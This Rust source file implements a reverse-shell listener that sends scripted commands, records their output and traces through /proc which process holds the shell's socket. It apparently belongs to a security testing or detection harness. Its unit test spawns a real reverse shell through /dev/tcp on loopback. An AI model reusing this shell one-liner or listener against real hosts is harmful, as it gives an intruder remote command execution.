//! The attacker's reverse-shell listener: accepts the shell's connection, runs the
//! scripted commands one after another and records exactly what came back and when.

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use crate::journal::{Event, Journal};
use crate::procfs;

/// The command that ends the conversation; it gets no end marker.
pub const EXIT: &str = "exit";

/// Binds the listener to 127.0.0.1 on a free port.
pub async fn bind() -> std::io::Result<TcpListener> {
    TcpListener::bind(("127.0.0.1", 0)).await
}

/// The line the shell echoes after command number `index`, so the listener knows where its
/// output ends without guessing from timing.
fn end_marker(index: usize) -> String {
    format!("VETO-END-{index}")
}

/// Accepts one shell and talks to it; later connections are not accepted.
pub async fn serve(listener: TcpListener, commands: Vec<String>, journal: Journal) {
    let Ok((stream, peer)) = listener.accept().await else {
        return;
    };
    drop(listener);
    journal.record(Event::ShellConnected { peer });
    // Who holds the other end, read from /proc on a blocking thread while the commands
    // run (a full /proc scan takes tens of milliseconds and must not delay them), and
    // awaited before `exit`, while the shell is certainly alive.
    let local = stream.local_addr().ok();
    let owner_journal = journal.clone();
    let inspect = tokio::task::spawn_blocking(move || {
        let holders = local
            .map(|l| procfs::socket_holders(peer, l))
            .unwrap_or_default();
        let chain = holders
            .first()
            .map(|&pid| procfs::parent_chain(pid))
            .unwrap_or_default();
        owner_journal.record(Event::ShellOwner {
            peer,
            holders: chain,
        });
    });
    let before_exit = async {
        let _ = inspect.await;
    };
    if let Err(err) = converse(stream, &commands, &journal, before_exit).await {
        journal.record(Event::ShellError(err.to_string()));
    }
}

async fn converse(
    mut stream: TcpStream,
    commands: &[String],
    journal: &Journal,
    before_exit: impl std::future::Future<Output = ()>,
) -> std::io::Result<()> {
    let mut before_exit = Some(before_exit);
    let mut pending = Vec::new();
    let mut chunk = [0u8; 4096];
    for (index, command) in commands.iter().enumerate() {
        if command == EXIT {
            if let Some(wait) = before_exit.take() {
                wait.await;
            }
            stream.write_all(b"exit\n").await?;
            journal.record(Event::CommandSent {
                command: command.clone(),
            });
            // The shell exits and the connection closes; anything it still says is kept.
            loop {
                let n = stream.read(&mut chunk).await?;
                if n == 0 {
                    break;
                }
                pending.extend_from_slice(&chunk[..n]);
            }
            journal.record(Event::ShellClosed);
            return Ok(());
        }
        let marker = end_marker(index);
        stream
            .write_all(format!("{command}\necho {marker}\n").as_bytes())
            .await?;
        journal.record(Event::CommandSent {
            command: command.clone(),
        });
        let mut first = true;
        let needle = format!("{marker}\n");
        loop {
            if let Some(pos) = find(&pending, needle.as_bytes()) {
                let output = String::from_utf8_lossy(&pending[..pos]).into_owned();
                pending.drain(..pos + needle.len());
                journal.record(Event::CommandDone {
                    command: command.clone(),
                    output,
                });
                break;
            }
            let n = stream.read(&mut chunk).await?;
            if n == 0 {
                journal.record(Event::ShellClosed);
                return Err(std::io::Error::new(
                    std::io::ErrorKind::UnexpectedEof,
                    format!("shell closed the connection during `{command}`"),
                ));
            }
            if first {
                first = false;
                journal.record(Event::CommandFirstOutput {
                    command: command.clone(),
                });
            }
            pending.extend_from_slice(&chunk[..n]);
        }
    }
    Ok(())
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A real /bin/sh on the other end of a loopback socket, as the payload arranges it.
    #[tokio::test(flavor = "current_thread")]
    async fn runs_commands_through_a_real_shell_and_records_their_output() {
        let listener = bind().await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let journal = Journal::default();
        let commands = vec!["echo hello".to_string(), "true".to_string(), EXIT.into()];
        let server = tokio::spawn(serve(listener, commands, journal.clone()));
        let mut shell = std::process::Command::new("/bin/bash")
            .arg("-c")
            .arg(format!(
                "exec /bin/sh 0<>/dev/tcp/127.0.0.1/{port} 1>&0 2>&0"
            ))
            .spawn()
            .unwrap();
        server.await.unwrap();
        assert!(shell.wait().unwrap().success());
        let outputs: Vec<(String, String)> = journal
            .snapshot()
            .into_iter()
            .filter_map(|e| match e.event {
                Event::CommandDone { command, output } => Some((command, output)),
                _ => None,
            })
            .collect();
        assert_eq!(
            outputs,
            vec![
                ("echo hello".to_string(), "hello\n".to_string()),
                ("true".to_string(), String::new())
            ]
        );
        assert!(journal.find(|e| matches!(e, Event::ShellClosed)).is_some());
    }
}
